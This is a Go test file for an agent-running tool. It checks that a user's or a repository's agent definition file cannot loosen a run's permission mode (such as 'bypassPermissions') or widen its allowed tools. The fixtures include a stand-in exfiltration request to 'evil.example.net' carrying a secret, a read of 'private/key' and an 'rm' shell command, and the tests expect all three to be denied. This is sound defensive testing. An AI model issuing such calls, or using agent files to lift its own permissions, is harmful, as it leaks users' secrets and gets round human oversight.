package node

import (
	"testing"

	"github.com/troupe-run/troupe/agent/spec"
	"github.com/troupe-run/troupe/client"
	"github.com/troupe-run/troupe/internal/permission"
	"github.com/troupe-run/troupe/model"
	"github.com/troupe-run/troupe/supervisor"
)

// decideFor is what the permissions of an agent of a run say about a call.
func decideFor(t *testing.T, o supervisor.Opened, agent, tool, args string, class model.Class) permission.Verdict {
	t.Helper()
	set := permission.Compile([]spec.Permissions{permissionsOf(t, o, agent)}, o.Workspace, nil)
	return set.Decide(permission.Call{Tool: tool, Args: args}, permission.Tool{Class: class}, nil)
}

// The mode of a run holds whatever mode the file of an agent names: that of the user's own agent, and that of an agent
// of the repository.
func TestAttackAnAgentFileCannotLoosenTheModeOfARun(t *testing.T) {
	t.Parallel()
	for what, c := range map[string]struct {
		file, request, directory string
		operator                 spec.PermissionMode
		own                      bool
	}{
		"the flag, and a user's agent":            {file: "bypassPermissions", request: "plan", own: true},
		"dontAsk, and a user's agent":             {file: "bypassPermissions", request: "dontAsk", own: true},
		"the directory, and a user's agent":       {file: "bypassPermissions", directory: "permission_mode: plan\n", own: true},
		"the flag, and a repository's agent":      {file: "default", request: "plan"},
		"dontAsk, and a repository's agent":       {file: "default", request: "dontAsk"},
		"the operator, and a repository's agent":  {file: "default", operator: spec.ModePlan},
		"the directory, and a repository's agent": {file: "default", directory: "permission_mode: dontAsk\n"},
	} {
		dir, agents := t.TempDir(), t.TempDir()
		text := "---\nname: local\ndescription: d\npermissionMode: " + c.file + "\ntools: Read, Write, Bash\n---\nx\n"
		if c.own {
			writeText(t, text, agents, "local.md")
		} else {
			writeText(t, text, dir, ".claude", "agents", "local.md")
		}
		if c.directory != "" {
			writeText(t, c.directory, dir, "troupe.yaml")
		}
		h := newBuildOnlyNode(dir, func(cfg *Config) { cfg.Roots = []string{dir, agents}; cfg.Permissions.Mode = c.operator })
		o, _, err := h.buildRun(newRequest(func(r *client.RunRequest) {
			r.Dir, r.Agent, r.PermissionMode = dir, "local", c.request
			if c.own {
				r.Agents = agents
			}
		}))
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		for tool, args := range map[string]string{"shell": `{"command":"rm x"}`, "write_file": `{"path":"main.go"}`} {
			if v := decideFor(t, o, "local", tool, args, model.Effect); v.Decision != permission.Deny {
				t.Errorf("%s: %s runs or is asked about: %+v", what, tool, v)
			}
		}
	}
}

// What a request grants in part stays that part, whatever the file of an agent grants, and the other way round.
func TestAttackAnAgentFileCannotWidenTheToolsOfARun(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	writeText(t, "---\nname: wide\ndescription: d\ntools: Read(**), WebFetch(domain:*)\n---\nx\n", dir, ".claude", "agents", "wide.md")
	writeText(t, "---\nname: narrow\ndescription: d\ntools: Read(src/a/**), WebFetch(domain:*)\n---\nx\n", dir, ".claude", "agents", "narrow.md")
	h := newBuildOnlyNode(dir, func(cfg *Config) { cfg.Roots = []string{dir} })
	for _, agent := range []string{"wide", "narrow"} {
		o, _, err := h.buildRun(newRequest(func(r *client.RunRequest) {
			r.Dir, r.Agent, r.AllowedTools = dir, agent, []string{"Read(src/**)", "WebFetch(domain:docs.example.com)"}
		}))
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct {
			tool, args string
			want       permission.Decision
		}{
			{"read_file", `{"path":"private/key"}`, permission.Deny}, {"http_get", `{"url":"https://evil.example.net/?q=secret"}`, permission.Deny},
			{"read_file", `{"path":"src/a/x"}`, permission.Allow}, {"http_get", `{"url":"https://docs.example.com/x"}`, permission.Allow},
			{"read_file", `{"path":"src/b"}`, map[bool]permission.Decision{true: permission.Allow, false: permission.Deny}[agent == "wide"]},
		} {
			if v := decideFor(t, o, agent, c.tool, c.args, model.Read); v.Decision != c.want {
				t.Errorf("%s: %s %s: %+v", agent, c.tool, c.args, v)
			}
		}
	}
}
